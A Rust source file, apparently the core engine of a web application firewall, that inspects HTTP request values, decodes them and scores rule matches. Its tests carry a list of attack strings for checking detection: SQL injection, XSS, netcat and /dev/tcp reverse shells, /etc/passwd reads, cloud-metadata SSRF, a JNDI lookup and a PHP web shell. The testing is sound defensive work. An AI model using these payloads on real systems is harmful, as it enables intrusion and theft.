//! The engine: collects targets, runs the protocol checks and the compiled rules, applies
//! exclusions and paranoia, and scores.

use std::borrow::Cow;
use std::cell::OnceCell;

use apiguard_model::{Finding, RequestView};

use crate::collect::{self, Anomaly, Visit};
use crate::config::{EngineConfig, Mode};
use crate::detectors::protocol::{self, TargetChecks};
use crate::detectors::{Boundary, cmdi};
use crate::error::RuleError;
use crate::evidence::{redact, snippet_around};
use crate::gate::{Bits, Features};
use crate::normalize::{self, Transform, apply_chain, base64};
use crate::rules::fast::{FastScratch, LOWER, Silence, UPPER};
use crate::rules::{Gate, Rule, RuleSet};
use crate::target::{LiteralMask, Target, TargetKind, TargetRef};

/// The engine's answer for one request.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Verdict {
    /// Sum of the findings' scores.
    pub score: u32,
    /// Every finding, protocol and parser findings first, then per target in request order.
    pub findings: Vec<Finding>,
    /// Whether the score reached the threshold in `block` mode.
    pub blocked: bool,
}

/// A compiled detection engine: immutable, `Send + Sync`, cheap to share behind an `Arc`.
#[derive(Debug)]
pub struct Engine {
    config: EngineConfig,
    rules: RuleSet,
    /// Whether the per-value prefilter may skip rules (always, except in the test that checks
    /// that it never changes a verdict).
    prefilter: bool,
}

impl Engine {
    /// Compiles the built-in rules plus `extra_rules` (file name, file text: the caller reads
    /// `config.extra_rule_files`) for `config`.
    pub fn new(
        config: EngineConfig,
        extra_rules: &[(String, String)],
    ) -> Result<Engine, RuleError> {
        if !(1..=4).contains(&config.paranoia) {
            return Err(RuleError::Config(format!(
                "paranoia must be 1 to 4, not {}",
                config.paranoia
            )));
        }
        if config.threshold == 0 {
            return Err(RuleError::Config("threshold must be at least 1".into()));
        }
        if config.max_body_inspect == 0
            || config.limits.max_targets == 0
            || config.limits.max_depth == 0
        {
            return Err(RuleError::Config("limits must be positive".into()));
        }
        for (i, ex) in config.exclusions.iter().enumerate() {
            if ex.rule.is_none() && ex.class.is_none() {
                return Err(RuleError::Config(format!(
                    "exclusion {i} names neither a rule nor a class"
                )));
            }
        }
        let rules = RuleSet::compile(extra_rules, config.paranoia)?;
        Ok(Engine {
            config,
            rules,
            prefilter: true,
        })
    }

    /// The configuration this engine was built with.
    pub fn config(&self) -> &EngineConfig {
        &self.config
    }

    /// Inspects one request.
    pub fn inspect(&self, request: &RequestView<'_>) -> Verdict {
        if self.config.mode == Mode::Off {
            return Verdict::default();
        }
        let mut run = Run {
            engine: self,
            method: request.method,
            sink: Sink::new(self),
            scratch: Scratch::new(self.rules.rules.len()),
            checks: TargetChecks::new(request),
            index: 0,
        };
        let prefilter = self.prefilter.then_some(&self.rules);
        let mut collected = collect::collect(request, &self.config, prefilter, &mut run);
        let Run {
            sink: rule_sink,
            checks,
            ..
        } = run;
        // Protocol and parser findings come first, then the rules' findings per target.
        let mut anomalies = std::mem::take(&mut collected.anomalies);
        protocol::check(request, &collected, checks, &mut anomalies);
        let mut sink = Sink::new(self);
        for anomaly in anomalies {
            sink.anomaly(anomaly);
        }
        sink.findings.extend(rule_sink.findings);
        let findings = sink.findings;
        let score = findings.iter().fold(0u32, |s, f| s.saturating_add(f.score));
        Verdict {
            score,
            blocked: self.config.mode == Mode::Block && score >= self.config.threshold,
            findings,
        }
    }

    /// Inspects values that the request view does not show, such as the string fields of a
    /// decoded gRPC message: the rules run over each target as over a request's arguments
    /// (decoding, base64, embedded query strings), with exclusions and paranoia applied. No
    /// protocol checks run (the request's head was inspected by [`Engine::inspect`]).
    pub fn inspect_targets(&self, targets: &[Target]) -> Verdict {
        if self.config.mode == Mode::Off {
            return Verdict::default();
        }
        let mut sink = Sink::new(self);
        let mut scratch = Scratch::new(self.rules.rules.len());
        let max_len = self.config.limits.max_value_len;
        for (index, target) in targets
            .iter()
            .take(self.config.limits.max_targets)
            .enumerate()
        {
            let mut value = target.value.as_str();
            if value.len() > max_len {
                // The same bound as a request's values: inspect the start, say so.
                value = &value[..crate::evidence::floor_char_boundary(value, max_len)];
                sink.anomaly(Anomaly::new(
                    "limits.value_length",
                    "limits",
                    apiguard_model::Severity::Notice,
                    TargetRef::new(target.kind, &target.name, value).to_string(),
                    format!(
                        "value of {} bytes; inspected up to {max_len}",
                        target.value.len()
                    ),
                ));
            }
            let target = TargetRef::new(target.kind, &target.name, value);
            self.inspect_target(index, &target, &mut sink, &mut scratch);
        }
        if targets.len() > self.config.limits.max_targets {
            sink.anomaly(Anomaly::new(
                "limits.targets",
                "limits",
                apiguard_model::Severity::Error,
                "request",
                format!(
                    "more than {} values; the rest was not inspected",
                    self.config.limits.max_targets
                ),
            ));
        }
        let findings = sink.findings;
        let score = findings.iter().fold(0u32, |s, f| s.saturating_add(f.score));
        Verdict {
            score,
            blocked: self.config.mode == Mode::Block && score >= self.config.threshold,
            findings,
        }
    }

    fn inspect_target(
        &self,
        target_index: usize,
        target: &TargetRef<'_>,
        sink: &mut Sink<'_>,
        scratch: &mut Scratch,
    ) {
        let value = target.value;
        if value.is_empty() {
            return;
        }
        let ctx = TargetCtx {
            index: target_index,
            target,
            bit: target.group().bit(),
            display: OnceCell::new(),
        };
        let raw_features = Features::of(value);
        // Most values are settled by their bytes and literals alone (see `quick_silent`).
        let quiet = self.prefilter
            && self.rules.quick_silent(
                ctx.bit,
                value,
                &raw_features,
                target.literals,
                &mut scratch.fast,
            );
        if quiet && !base64_possible(target.kind, value, &raw_features) {
            return;
        }
        if quiet {
            // Nothing fires on the value itself, and it has no `=` to split on (a byte the
            // quick check refuses): only its base64 text is left to inspect.
            if let Some(text) = base64::decode_runs(value, target.kind == TargetKind::Path) {
                let text_decoded = normalize::decode(&text);
                let text_features = Features::of(&text_decoded);
                self.run_groups(
                    &ctx,
                    &text,
                    &text_decoded,
                    &text_features,
                    None,
                    true,
                    sink,
                    scratch,
                );
            }
            return;
        }
        // The canonical decoding is the identity without escapes, entities, NULs or non-ASCII.
        let (decoded, features) = if raw_features.non_ascii || raw_features.any(b"%&\\\0") {
            let decoded = normalize::decode(value);
            let features = Features::of(&decoded);
            (decoded, features)
        } else {
            (Cow::Borrowed(value), raw_features)
        };
        self.run_groups(
            &ctx,
            value,
            &decoded,
            &features,
            target.literals,
            false,
            sink,
            scratch,
        );
        if base64_possible(target.kind, &decoded, &features)
            && let Some(text) = base64::decode_runs(&decoded, target.kind == TargetKind::Path)
        {
            let text_decoded = normalize::decode(&text);
            let text_features = Features::of(&text_decoded);
            self.run_groups(
                &ctx,
                &text,
                &text_decoded,
                &text_features,
                None,
                true,
                sink,
                scratch,
            );
        }
        // A value that carries its own query string (a URL in a Referer, a form field whose
        // `=` was encoded once more, `a=1&b=2` in a JSON string) reaches an application that
        // splits it again: inspect each embedded argument value on its own too.
        if embedded_candidate(target.kind) && features.has(b'=') {
            for sub in embedded_values(&decoded) {
                let sub_decoded = normalize::decode(sub);
                let sub_features = Features::of(&sub_decoded);
                self.run_groups(
                    &ctx,
                    sub,
                    &sub_decoded,
                    &sub_features,
                    None,
                    false,
                    sink,
                    scratch,
                );
            }
        }
    }

    /// Runs every rule that may apply to the target on `raw` (decoded: `decoded`, whose
    /// features are `features`). `literals`, when known, says which prefilter literals occur
    /// in `decoded` (found by a search over the whole document the value comes from).
    #[allow(clippy::too_many_arguments)]
    fn run_groups(
        &self,
        ctx: &TargetCtx<'_>,
        raw: &str,
        decoded: &str,
        features: &Features,
        literals: Option<LiteralMask>,
        from_base64: bool,
        sink: &mut Sink<'_>,
        scratch: &mut Scratch,
    ) {
        let gate = &self.rules.gate;
        let features = *features;
        let raw_is_decoded = (std::ptr::eq(raw.as_ptr(), decoded.as_ptr())
            && raw.len() == decoded.len())
            || raw == decoded;
        let Scratch {
            fast,
            local,
            local_len,
        } = scratch;
        // The fast path (see `rules::fast`): a value on which no rule can fire is done after
        // one byte pass and at most one or two literal searches.
        let mut scanned = false;
        if self.prefilter && raw_is_decoded {
            match self
                .rules
                .fast_silent(ctx.bit, decoded, &features, literals, fast, &mut scanned)
            {
                Silence::Plain => return,
                Silence::Worked => {
                    // Keys and values of structured bodies repeat (arrays of objects); a
                    // request's headers hardly do.
                    if repeats(ctx.target.kind) {
                        fast.remember(ctx.bit, decoded);
                    }
                    return;
                }
                Silence::Unknown => {}
            }
        }
        let armed = &mut fast.armed;
        *local_len = 0;
        if !scanned {
            armed.clear();
            scan(gate, decoded, &features, armed);
        }
        let transparent_mask = features.transparent_mask(decoded, self.rules.transform_mask);
        // Detector prefilters, computed once per value.
        let mut detector_gate: [Option<bool>; 5] = [None; 5];
        for group in &self.rules.groups {
            if !group.may_apply(ctx.bit, || ctx.display()) {
                continue;
            }
            let (base, rest, base_known) = match group.chain.split_first() {
                Some((Transform::Decode, rest)) => (decoded, rest, true),
                _ => (raw, &group.chain[..], raw_is_decoded),
            };
            // When the chain leaves the value unchanged up to ASCII case, the literals found in
            // the decoded value are those of the chain's text; otherwise scan the text itself.
            let transparent = base_known && group.rest_mask & !transparent_mask == 0;
            if self.prefilter
                && transparent
                && !group.has_always
                && !armed.intersects(&group.members)
                && !features.intersects(&group.bytes)
                && group.detectors.iter().all(|(_, d)| {
                    !*detector_gate[*d as usize].get_or_insert_with(|| d.may_match(base, &features))
                })
            {
                continue;
            }
            let mut text: Option<Cow<'_, str>> = None;
            let (bits, f): (&Bits, &Features) = if transparent {
                (armed, &features)
            } else {
                // Groups whose chains differ only by a lowercase that is transparent here see
                // the same literals: scan their text once per value.
                let drop_lowercase = transparent_mask & Transform::Lowercase.bit() != 0
                    && !rest.contains(&Transform::Log4j);
                let key_chain = || {
                    rest.iter()
                        .copied()
                        .filter(move |t| !(drop_lowercase && *t == Transform::Lowercase))
                };
                let key = if base_known {
                    key_chain()
                        .enumerate()
                        .try_fold(0u64, |k, (i, t)| {
                            (i < 15).then(|| k | (u64::from(t as u8) + 1) << (4 * i))
                        })
                        .unwrap_or(0)
                } else {
                    0
                };
                let slot = match local[..*local_len]
                    .iter()
                    .position(|e| key != 0 && e.key == key)
                {
                    Some(slot) => slot,
                    None => {
                        let t = if key != 0 {
                            let mut value = Cow::Borrowed(base);
                            for step in key_chain() {
                                if let Cow::Owned(s) = step.apply(&value) {
                                    value = Cow::Owned(s);
                                }
                            }
                            value
                        } else {
                            apply_chain(base, rest)
                        };
                        if *local_len == local.len() {
                            local.push(GateCache {
                                key: 0,
                                bits: Bits::with_len(self.rules.rules.len()),
                                features: Features::default(),
                            });
                        }
                        let entry = &mut local[*local_len];
                        *local_len += 1;
                        entry.key = key;
                        entry.bits.clear();
                        entry.features = Features::of(&t);
                        scan(gate, t.as_bytes(), &entry.features, &mut entry.bits);
                        if key == 0 || !drop_lowercase || !rest.contains(&Transform::Lowercase) {
                            text = Some(t);
                        }
                        *local_len - 1
                    }
                };
                (&local[slot].bits, &local[slot].features)
            };
            let is_armed = |index: usize| {
                !self.prefilter
                    || gate.always[index]
                    || bits.get(index)
                    || f.intersects(&gate.bytes[index])
            };
            let usable = |index: usize, sink: &Sink<'_>| {
                let rule = &self.rules.rules[index];
                (if from_base64 {
                    rule.base64
                } else {
                    !rule.only_base64
                }) && !sink.has(index, ctx.index)
                    && rule.applies_to(ctx.bit, || ctx.display())
            };
            for (index, regex) in &group.regexes {
                if !is_armed(*index) || !usable(*index, sink) {
                    continue;
                }
                let t = text.get_or_insert_with(|| apply_chain(base, rest));
                if let Some(m) = regex.find(t) {
                    sink.rule(
                        *index,
                        ctx,
                        snippet_around(t, m.start(), m.end()),
                        from_base64,
                        None,
                    );
                }
            }
            if let Some(ac) = &group.phrases
                && group
                    .phrase_members
                    .iter()
                    .any(|&i| is_armed(i) && usable(i, sink))
            {
                let t: &str = text.get_or_insert_with(|| apply_chain(base, rest));
                for m in ac.find_overlapping_iter(t) {
                    let (index, word) = group.phrase_rules[m.pattern().as_usize()];
                    if word && !at_word_boundaries(t, m.start(), m.end()) {
                        continue;
                    }
                    if usable(index, sink) {
                        sink.rule(
                            index,
                            ctx,
                            snippet_around(t, m.start(), m.end()),
                            from_base64,
                            None,
                        );
                    }
                }
            }
            for (index, detector) in &group.detectors {
                let may_match = if transparent {
                    *detector_gate[*detector as usize]
                        .get_or_insert_with(|| detector.may_match(base, f))
                } else {
                    detector.may_match(text.as_deref().unwrap_or(base), f)
                };
                if !(is_armed(*index) || may_match) || !usable(*index, sink) {
                    continue;
                }
                let t = text.get_or_insert_with(|| apply_chain(base, rest));
                if let Some(m) = detector.run(t) {
                    sink.rule(
                        *index,
                        ctx,
                        snippet_around(t, m.start, m.end),
                        from_base64,
                        Some(m.reason),
                    );
                }
            }
        }
    }
}

/// One inspection: the collector hands it each target as it is found.
struct Run<'e, 'r> {
    engine: &'e Engine,
    method: &'r http::Method,
    /// The rules' findings (the protocol checks' come first in the verdict).
    sink: Sink<'e>,
    scratch: Scratch,
    checks: TargetChecks,
    /// Index of the next target handed over (it tells a target's findings apart from
    /// another's; items settled during collection find nothing and take none).
    index: usize,
}

impl Visit for Run<'_, '_> {
    fn target(&mut self, target: &TargetRef<'_>) {
        self.checks.target(self.method, target);
        let index = self.index;
        self.index += 1;
        self.engine
            .inspect_target(index, target, &mut self.sink, &mut self.scratch);
    }

    fn settles(&self) -> Option<bool> {
        Some(self.checks.silent_on_json(TargetKind::JsonKey, ""))
    }

    /// What `inspect_target` settles before any decoding (an empty value, or the quick check
    /// and no base64), when the per-target protocol checks have nothing to say either.
    fn settle(
        &mut self,
        kind: TargetKind,
        value: &str,
        features: &Features,
        literals: LiteralMask,
    ) -> bool {
        let engine = self.engine;
        engine.prefilter
            && self.checks.silent_on_json(kind, value)
            && (value.is_empty()
                || (engine.rules.quick_silent(
                    kind.group().bit(),
                    value,
                    features,
                    Some(literals),
                    &mut self.scratch.fast,
                ) && !base64_possible(kind, value, features)))
    }
}

/// Reusable per-request buffers.
struct Scratch {
    /// The fast path's buffers; `fast.armed` is the literal scan of the current value.
    fast: FastScratch,
    /// Prefilter results of transformed texts of the current value (`local_len` in use).
    local: Vec<GateCache>,
    local_len: usize,
}

/// The prefilter result of one transformed text.
struct GateCache {
    /// The transforms applied (4 bits each), 0 when not shareable.
    key: u64,
    bits: Bits,
    features: Features,
}

impl Scratch {
    fn new(rule_count: usize) -> Scratch {
        Scratch {
            fast: FastScratch::new(rule_count),
            local: Vec::new(),
            local_len: 0,
        }
    }
}

/// One target being inspected; its display form (`query:id`) is built only when needed.
struct TargetCtx<'t> {
    index: usize,
    target: &'t TargetRef<'t>,
    bit: u16,
    display: OnceCell<String>,
}

impl TargetCtx<'_> {
    fn display(&self) -> &str {
        self.display.get_or_init(|| self.target.display())
    }
}

/// Arms the rules whose required literals occur in `text` (whose features are `f`); whether
/// any literal occurs at all.
pub(crate) fn scan(
    gate: &Gate,
    text: &(impl AsRef<[u8]> + ?Sized),
    f: &Features,
    armed: &mut Bits,
) -> bool {
    let Some(literals) = &gate.literals else {
        return false;
    };
    let bytes = text.as_ref();
    let mut any = false;
    literals.each(bytes, |literal, start, end| {
        any = true;
        for &(rule, boundary) in &gate.literal_rules[literal] {
            if boundary_holds(boundary, bytes, start, end, f) {
                armed.set(rule);
            }
        }
        true
    });
    any
}

pub(crate) fn boundary_holds(
    boundary: Boundary,
    bytes: &[u8],
    start: usize,
    end: usize,
    f: &Features,
) -> bool {
    edges_hold(boundary, bytes, start, end)
        && match boundary {
            Boundary::None | Boundary::Sql => true,
            Boundary::SqlCall | Boundary::Paren => f.has(b'('),
            Boundary::Command | Boundary::CommandWord | Boundary::ShellSyntax => {
                shell_syntax(f)
                    || match boundary {
                        Boundary::Command => cmdi::at_first_word(bytes, start),
                        Boundary::CommandWord => {
                            cmdi::at_first_word(bytes, start) && cmdi::has_second_word(bytes)
                        }
                        _ => false,
                    }
            }
        }
}

/// Whether a value (with features `f`) has shell syntax, so that a command word may stand
/// anywhere in it (see `cmdi::SHELL_SYNTAX`).
pub(crate) fn shell_syntax(f: &Features) -> bool {
    const SYNTAX: [u64; 2] = crate::gate::exact_mask(cmdi::SHELL_SYNTAX);
    f.non_ascii || f.intersects(&SYNTAX)
}

/// Whether the bytes around a literal found at `bytes[start..end]` satisfy `boundary`'s word
/// edges (its conditions on the whole value are [`boundary_holds`]'s).
pub(crate) fn edges_hold(boundary: Boundary, bytes: &[u8], start: usize, end: usize) -> bool {
    let before = start.checked_sub(1).map(|i| bytes[i]);
    let after = bytes.get(end).copied();
    let sql_letter = |b: u8| b.is_ascii_alphabetic() || b == b'_' || b == b'$' || b >= 0x80;
    match boundary {
        Boundary::None | Boundary::Paren => true,
        Boundary::Command | Boundary::CommandWord | Boundary::ShellSyntax => {
            !before.is_some_and(|b| b.is_ascii_alphanumeric())
                && !after.is_some_and(|b| b.is_ascii_alphabetic())
        }
        Boundary::Sql | Boundary::SqlCall => {
            !before.is_some_and(sql_letter)
                && !after.is_some_and(|b| sql_letter(b) || b.is_ascii_digit())
        }
    }
}

/// Kinds whose values often repeat within one request (worth remembering as silent).
fn repeats(kind: TargetKind) -> bool {
    !matches!(
        kind,
        TargetKind::Method
            | TargetKind::Path
            | TargetKind::Header
            | TargetKind::Cookie
            | TargetKind::CookieName
    )
}

/// Most embedded arguments inspected per value.
const MAX_EMBEDDED: usize = 16;

/// Kinds whose values may embed a query string.
fn embedded_candidate(kind: TargetKind) -> bool {
    !matches!(
        kind,
        TargetKind::Method
            | TargetKind::XmlDeclaration
            | TargetKind::GraphqlQuery
            | TargetKind::PartHeader
            | TargetKind::Body
    )
}

/// The values of `name=value` pairs embedded in `text` (split on `&`, `?` and `#`; `&&` is an
/// operator, not a separator), where the name is an identifier and the value is not the whole
/// text. Empty for values without `=`.
pub(crate) fn embedded_values(text: &str) -> impl Iterator<Item = &str> {
    let bytes = text.as_bytes();
    let mut starts = Vec::new();
    if bytes.contains(&b'=') {
        starts.push(0);
        for (i, &b) in bytes.iter().enumerate() {
            let single_amp =
                b == b'&' && bytes.get(i + 1) != Some(&b'&') && (i == 0 || bytes[i - 1] != b'&');
            if (single_amp || b == b'?' || b == b'#') && starts.len() < 64 {
                starts.push(i + 1);
            }
        }
    }
    (0..starts.len())
        .map(move |i| {
            let end = starts.get(i + 1).map_or(text.len(), |s| s - 1);
            (starts[i], end)
        })
        .filter_map(move |(start, end)| {
            let piece = &text[start..end];
            let eq = piece.find('=')?;
            let (name, value) = (&piece[..eq], &piece[eq + 1..]);
            let ident = !name.is_empty()
                && name.len() <= 64
                && name.bytes().all(|b| {
                    b.is_ascii_alphanumeric()
                        || matches!(b, b'_' | b'-' | b'.' | b'[' | b']' | b'$')
                });
            (ident && !value.trim_matches(['=', ' ']).is_empty()).then_some(value)
        })
        .take(MAX_EMBEDDED)
}

/// Whether a value of `kind` (features `f`) may hold base64 of text: base64 runs are at least
/// 8 characters long and mix both letter cases (see `base64::decode_runs`).
fn base64_possible(kind: TargetKind, value: &str, f: &Features) -> bool {
    base64_candidate(kind)
        && value.len() >= 8
        && f.intersects(&UPPER)
        && f.intersects(&LOWER)
        && base64::may_decode(value, kind == TargetKind::Path)
}

/// Kinds whose values may be base64 of a payload.
fn base64_candidate(kind: TargetKind) -> bool {
    !matches!(
        kind,
        TargetKind::Method
            | TargetKind::XmlDeclaration
            | TargetKind::GraphqlQuery
            | TargetKind::PartHeader
    )
}

fn at_word_boundaries(text: &str, start: usize, end: usize) -> bool {
    let word = |c: char| c.is_alphanumeric() || c == '_';
    let before = text[..start].chars().next_back().is_none_or(|c| !word(c));
    let after = text[end..].chars().next().is_none_or(|c| !word(c));
    before && after
}

/// Collects findings: deduplicated per rule and target, exclusions and paranoia applied.
struct Sink<'e> {
    engine: &'e Engine,
    findings: Vec<Finding>,
    /// (rule index, target index) pairs already reported.
    seen: Vec<(usize, usize)>,
}

impl<'e> Sink<'e> {
    fn new(engine: &'e Engine) -> Sink<'e> {
        Sink {
            engine,
            findings: Vec::new(),
            seen: Vec::new(),
        }
    }

    fn has(&self, index: usize, target_index: usize) -> bool {
        self.seen.contains(&(index, target_index))
    }

    fn excluded(&self, rule_id: &str, class: &str, target: &str) -> bool {
        self.engine
            .config
            .exclusions
            .iter()
            .any(|ex| ex.covers(rule_id, class, target))
    }

    #[allow(clippy::too_many_arguments)]
    fn rule(
        &mut self,
        index: usize,
        ctx: &TargetCtx<'_>,
        snippet: String,
        from_base64: bool,
        reason: Option<&str>,
    ) {
        let rule: &Rule = &self.engine.rules.rules[index];
        let display = ctx.display();
        self.seen.push((index, ctx.index));
        if self.excluded(&rule.id, &rule.class, display) {
            return;
        }
        let mut evidence = String::new();
        if from_base64 {
            evidence.push_str("base64: ");
        }
        if let Some(reason) = reason {
            evidence.push_str(reason);
            evidence.push_str(": ");
        }
        evidence.push_str(&snippet);
        self.findings.push(Finding {
            rule_id: Cow::Owned(rule.id.clone()),
            class: Cow::Owned(rule.class.clone()),
            severity: rule.severity,
            score: rule.severity.score(),
            target: display.to_string(),
            evidence,
        });
    }

    fn anomaly(&mut self, a: Anomaly) {
        if a.paranoia > self.engine.config.paranoia || self.excluded(a.rule_id, a.class, &a.target)
        {
            return;
        }
        if self
            .findings
            .iter()
            .any(|f| f.rule_id == a.rule_id && f.target == a.target)
        {
            return;
        }
        self.findings.push(Finding {
            rule_id: Cow::Borrowed(a.rule_id),
            class: Cow::Borrowed(a.class),
            severity: a.severity,
            score: a.severity.score(),
            target: a.target,
            evidence: redact(&a.evidence),
        });
    }
}

/// The benchmark traffic, for the tests.
#[cfg(test)]
#[allow(dead_code)]
#[path = "../benches/common/traffic.rs"]
mod bench_traffic;

#[cfg(test)]
mod tests {
    use std::net::SocketAddr;

    use apiguard_model::ClientInfo;
    use bytes::Bytes;
    use http::{HeaderMap, HeaderName, HeaderValue, Method, Uri, Version};

    use super::*;

    /// Values from outside the request view (decoded protobuf fields) get the same rules:
    /// an injection is found and named by its field path; a clean value finds nothing; an
    /// exclusion on the target silences it.
    #[test]
    fn inspect_targets_runs_the_rules_over_given_values() {
        let engine = Engine::new(EngineConfig::default(), &[]).expect("engine");
        let targets = [
            Target::new(TargetKind::GrpcField, "item", "1' or '1'='1"),
            Target::new(TargetKind::GrpcField, "note", "two blue widgets"),
        ];
        let verdict = engine.inspect_targets(&targets);
        assert!(verdict.blocked, "{verdict:?}");
        assert!(verdict.findings.iter().all(|f| f.target == "grpc:item"));
        let clean = engine.inspect_targets(&targets[1..]);
        assert_eq!(clean, Verdict::default());
        let mut config = EngineConfig::default();
        config.exclusions.push(crate::Exclusion {
            rule: None,
            class: Some("sqli".into()),
            target: Some("grpc:item".into()),
        });
        let excluded = Engine::new(config, &[]).expect("engine");
        assert!(!excluded.inspect_targets(&targets).blocked);
    }

    const PAYLOADS: &[&str] = &[
        "1' or '1'='1",
        "admin'--",
        "x'&email--",
        " exec xp_cmdshell",
        "1union select 1,2",
        "-1 UNION ALL SELECT 1,2,@@version",
        "OR '{\"b\":2}'::jsonb <@ '{}'::jsonb",
        "<svg/onload=alert(1)>",
        "javascript:alert(document.cookie)",
        "\" onfocus=alert(1) autofocus x=\"",
        "document.cookie",
        "alert.call(null,1)",
        "+ADw-script+AD4-",
        ";whoami",
        "w'h'o'am'i",
        "cat /etc/passwd",
        "nohup nc -e /bin/sh 10.0.0.1 4444",
        "/???/??t /???/p??s??",
        "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
        "http://169.254.169.254/latest/meta-data/",
        "localhost/admin",
        "0x7f000001/",
        "gopher://127.0.0.1:6379/_",
        "admin)(|(uid=*",
        "*(|(objectclass=*))",
        "${jndi:ldap://x.oast.me/a}",
        "${${lower:j}ndi:${lower:l}dap://x}",
        "../../../../etc/passwd",
        "..%c0%af..%c0%afetc/passwd",
        "{{7*7}}",
        "<?php system($_GET['c']); ?>",
        "java.lang.Runtime.getRuntime().exec(\"id\")",
        "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
        "cnVudGltZQ",
        "GZvcmNsb3N1cmU",
        "require('child_process').exec('id')",
        "__proto__[admin]=1",
        "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">",
        "a\r\nSet-Cookie: x=1",
        "O'Brien",
        "Please select the drop down from the menu",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
        "It's 5 o'clock; time to select a dinner from the menu",
        "Ça coûte 5 € (TTC) — merci",
        "ｓｅｌｅｃｔ＊ｆｒｏｍ",
        "ſcript",
        // Command words where a command may or may not stand, function-call shapes.
        "ls -la /etc",
        "sudo id",
        "ssh-keygen",
        "id",
        "order_id",
        "Please deliver at noon and leave it at the desk",
        "  nc -e sh 10.0.0.1 4444",
        "python3.10 -c x",
        "email",
        "ord(",
        "1 and ascii(substr(user(),1,1))>64",
        "9.5",
        "127.1/",
        "alice@example.com",
        "Blue cotton shirt",
        "ja va.lang.Runtime",
    ];

    fn verdict(engine: &Engine, uri: &str, body: &str, header: &str) -> Verdict {
        let mut headers = HeaderMap::new();
        headers.insert("host", HeaderValue::from_static("api.example.com"));
        headers.insert("content-type", HeaderValue::from_static("application/json"));
        if let Ok(v) = HeaderValue::from_str(header) {
            headers.insert(HeaderName::from_static("x-test"), v);
        }
        let client = ClientInfo {
            peer: SocketAddr::from(([192, 0, 2, 1], 5555)),
            tls: false,
            client_cert_subject: None,
            client_cert_sans: vec![],
        };
        let body = Bytes::from(body.to_string());
        let method = Method::POST;
        let uri: Uri = uri.parse().expect("uri");
        engine.inspect(&RequestView {
            method: &method,
            uri: &uri,
            version: Version::HTTP_11,
            headers: &headers,
            client: &client,
            route: "test",
            request_id: "t",
            body: Some(&body),
        })
    }

    fn encode(s: &str) -> String {
        s.bytes()
            .map(|b| {
                if b.is_ascii_alphanumeric() {
                    (b as char).to_string()
                } else {
                    format!("%{b:02X}")
                }
            })
            .collect()
    }

    /// The prefilter only skips work: with and without it, every finding is the same.
    #[test]
    fn prefilter_never_changes_findings() {
        let gated = Engine::new(EngineConfig::default(), &[]).expect("engine");
        let mut full = Engine::new(EngineConfig::default(), &[]).expect("engine");
        full.prefilter = false;
        for payload in PAYLOADS {
            let uri = format!("/a/{}?q={}", encode(payload), encode(payload));
            let body = serde_json::json!({ "v": payload, *payload: 1 }).to_string();
            let header = payload.replace(['\r', '\n'], " ");
            let a = verdict(&gated, &uri, &body, &header);
            let b = verdict(&full, &uri, &body, &header);
            assert_eq!(a, b, "prefilter changed the verdict for {payload:?}");
        }
    }

    use super::bench_traffic as traffic;

    /// The benchmark traffic (the gateway's 2 KB JSON order, a stream of fresh orders, clean
    /// and attack requests) gets the same verdict with and without the prefilter: the
    /// settlement of JSON items during collection skips only work.
    #[test]
    fn prefilter_never_changes_findings_on_the_benchmark_traffic() {
        let gated = Engine::new(EngineConfig::default(), &[]).expect("engine");
        let mut full = Engine::new(EngineConfig::default(), &[]).expect("engine");
        full.prefilter = false;
        let client = ClientInfo {
            peer: SocketAddr::from(([192, 0, 2, 1], 5555)),
            tls: false,
            client_cert_subject: None,
            client_cert_sans: vec![],
        };
        let mut requests = traffic::clean_traffic();
        requests.extend(traffic::attack_traffic());
        requests.push(traffic::typical_get());
        requests.push(traffic::gateway_get());
        requests.push(traffic::order_json_2k());
        requests.extend((0..50).map(traffic::order_json_2k_fresh));
        let mut findings = 0;
        for r in &requests {
            let view = RequestView {
                method: &r.method,
                uri: &r.uri,
                version: Version::HTTP_11,
                headers: &r.headers,
                client: &client,
                route: "test",
                request_id: "t",
                body: Some(&r.body),
            };
            let verdict = gated.inspect(&view);
            assert_eq!(verdict, full.inspect(&view), "{} {}", r.method, r.uri);
            findings += verdict.findings.len();
        }
        // The attacks are found (the comparison is not between two empty verdicts).
        assert!(findings >= 4, "{findings}");
    }

    #[test]
    fn embedded_arguments_are_split_like_a_query_string() {
        let subs: Vec<&str> =
            embedded_values("https://x.example/?q=1' or '1'='1&b=2#f=&&(a=1)").collect();
        assert_eq!(subs, vec!["1' or '1'='1", "2", "&&(a=1)"]);
        let subs: Vec<&str> = embedded_values("pay=&&(l=!0)").collect();
        assert_eq!(subs, vec!["&&(l=!0)"]);
        assert_eq!(embedded_values("no pairs here").count(), 0);
        // Base64 padding and prose with `=` are not pairs.
        assert_eq!(embedded_values("YWJj==").count(), 0);
        assert_eq!(embedded_values("a = b").count(), 0);
    }

    fn corpus_request(line: &serde_json::Value) -> Option<(Method, Uri, HeaderMap, Bytes)> {
        let method = Method::from_bytes(line["method"].as_str()?.as_bytes()).ok()?;
        let mut uri = String::new();
        for b in line["uri"].as_str()?.bytes() {
            if b >= 0x80 {
                uri.push_str(&format!("%{b:02X}"));
            } else {
                uri.push(b as char);
            }
        }
        let uri: Uri = uri.parse().ok()?;
        let mut headers = HeaderMap::new();
        for pair in line["headers"].as_array()? {
            let name = HeaderName::from_bytes(pair[0].as_str()?.as_bytes()).ok()?;
            let value = HeaderValue::from_bytes(pair[1].as_str()?.as_bytes()).ok()?;
            headers.append(name, value);
        }
        let body = match (line["body"].as_str(), line["body_b64"].as_str()) {
            (_, Some(b64)) => {
                let (mut out, mut acc, mut bits) = (Vec::new(), 0u32, 0);
                for c in b64.bytes() {
                    let v = match c {
                        b'A'..=b'Z' => c - b'A',
                        b'a'..=b'z' => c - b'a' + 26,
                        b'0'..=b'9' => c - b'0' + 52,
                        b'+' => 62,
                        b'/' => 63,
                        _ => continue,
                    };
                    acc = acc << 6 | u32::from(v);
                    bits += 6;
                    if bits >= 8 {
                        bits -= 8;
                        out.push((acc >> bits) as u8);
                    }
                }
                Bytes::from(out)
            }
            (Some(text), None) => Bytes::from(text.to_string()),
            (None, None) => Bytes::new(),
        };
        Some((method, uri, headers, body))
    }

    /// Calls `each` with every request of the dev corpus (set `APIGUARD_CORPUS` to another
    /// directory); false when the corpus is absent.
